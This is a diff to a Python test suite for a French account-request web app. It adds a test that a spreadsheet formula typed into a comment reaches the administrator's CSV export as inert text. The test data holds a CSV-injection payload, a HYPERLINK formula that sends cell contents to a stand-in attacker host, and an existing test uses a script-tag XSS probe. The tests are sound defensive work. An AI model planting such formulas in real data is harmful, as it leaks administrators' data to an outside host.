@@ -4,6 +4,8 @@ export, the first password; bad input, abuse and the authorization rules by URL.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import threading
 from collections.abc import Iterator
@@ -216,6 +218,25 @@ def test_bad_input_is_answered_next_to_each_field(world: SimpleNamespace) -> Non
     assert "<script>alert(1)</script>" not in response.get_data(as_text=True)
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.get_data(as_text=True)
     assert pending(world.app) is None
+
+
+def test_what_a_requester_typed_is_exported_as_text_not_as_a_formula(
+        world: SimpleNamespace) -> None:
+    """« Créer un compte » is open to anyone: a name or a comment that a spreadsheet
+    would run (CSV injection) reaches the administrator's export as plain text."""
+    formula = '=HYPERLINK("https://attacker.example/?"&A1;"Cliquez")'
+    visitor = world.app.test_client()
+    post(visitor, "/compte/creer", {"given_name": "Léa", "family_name": "@Nouvelle"})
+    sent = post(visitor, "/compte/creer", newcomer(world, wants_ape="non",
+                                                   family_name="@Nouvelle", comment=formula),
+                "/compte/creer/demande")
+    assert sent.status_code == 200, text(sent)
+    ape = world.app.test_client()
+    log_in(ape, world.ape)
+    body = ape.get("/profils/demandes.csv").get_data().decode("utf-8-sig")
+    [row] = [r for r in csv.reader(io.StringIO(body), delimiter=";") if "'@Nouvelle" in r]
+    assert "'" + formula in row
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
 
 
 def test_account_requests_are_rate_limited_per_address(world: SimpleNamespace) -> None:
